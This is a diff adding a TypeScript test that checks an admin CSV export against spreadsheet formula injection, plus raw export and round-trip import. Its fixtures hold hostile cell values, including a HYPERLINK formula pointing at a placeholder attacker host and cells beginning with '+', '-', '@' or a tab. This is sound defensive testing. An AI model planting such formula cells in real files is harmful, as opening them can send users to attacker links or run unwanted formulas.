@@ -7,6 +7,7 @@ import assert from 'node:assert/strict'
 import { type TestServer, type Agent } from '../helpers/server'
 import { startAdminServer, loggedIn } from '../admin/helpers'
 import { SHOP_APP } from '../pack/testapp'
+import { parseCsv } from '../../server/dal'
 
 let s: TestServer
 let agent: Agent
@@ -116,6 +117,34 @@ test('CSV export and import of a table and of the database; sql.log', async () =
   assert.equal(after, before * 2)
   const log = await agent.request('/admin/appadmin/sqllog/shop/db')
   assert.match(log.body, /CREATE TABLE/)
+})
+
+test('CSV download is spreadsheet-safe (formula cells neutralised), ?raw=1 the exact dump; a download imported back is exact (issue 16, defect 5)', async () => {
+  const hostile = ['=HYPERLINK("http://evil.example/?x")', '+1+1', '-2+3', '@SUM(A1)', '\tTAB=1', '\r=CR', "'=quoted", "''-x"]
+  const text = 'thing.name,thing.value\r\n' + hostile.map((h, i) => `"${h.replace(/"/g, '""')}",${i + 1}`).join('\r\n') + '\r\n"-7",-5\r\n'
+  // a pasted CSV is imported as written except for the `'` the download adds: "'=quoted" arrives as "=quoted"
+  const imp = await agent.request('/admin/appadmin/import_csv/shop/db/thing', { form: { _csrf: csrf, csvtext: text } })
+  assert.equal(imp.status, 303, imp.body.slice(0, 300))
+  const stored = ['=HYPERLINK("http://evil.example/?x")', '+1+1', '-2+3', '@SUM(A1)', '\tTAB=1', '\r=CR', '=quoted', "'-x", '-7']
+  const namesIn = (csv: string) => parseCsv(csv).slice(1).map((r) => r[1]!)
+  const safe = await agent.request('/admin/appadmin/csv/shop/db/thing')
+  assert.equal(safe.status, 200)
+  const cells = parseCsv(safe.body).flat()
+  for (const c of cells) assert.ok(!/^[=+\-@\t\r]/.test(c) || /^-?\d+$/.test(c), `a spreadsheet would run ${JSON.stringify(c)}`)
+  assert.ok(safe.body.includes(`"'=HYPERLINK(""http://evil.example/?x"")"`))
+  assert.ok(safe.body.includes(`"'+1+1"`) && safe.body.includes(`"'@SUM(A1)"`) && safe.body.includes(`"''-x"`))
+  assert.match(safe.body, /\r\n\d+,-7,-5\r\n/, 'numbers stay numbers')
+  const whole = await agent.request('/admin/appadmin/csv/shop/db')
+  assert.ok(whole.body.includes(`"'-2+3"`))
+  const raw = await agent.request('/admin/appadmin/csv/shop/db/thing?raw=1')
+  const rawNames = namesIn(raw.body)
+  for (const n of stored) assert.equal(rawNames.filter((x) => x === n).length, 1, n)
+  // the safe download imported back: the very same names again
+  const back = await agent.request('/admin/appadmin/import_csv/shop/db/thing', multipart({ _csrf: csrf }, { csvfile: { name: 't.csv', data: safe.body } }))
+  assert.equal(back.status, 303, back.body.slice(0, 300))
+  const again = namesIn((await agent.request('/admin/appadmin/csv/shop/db/thing?raw=1')).body)
+  for (const n of stored) assert.equal(again.filter((x) => x === n).length, 2, n)
+  assert.ok(!again.some((x) => x.startsWith("'=") || x.startsWith("'+")), 'no neutralising quote stored')
 })
 
 test('pack → install under a new name → the same pages; bad archive refused', async () => {
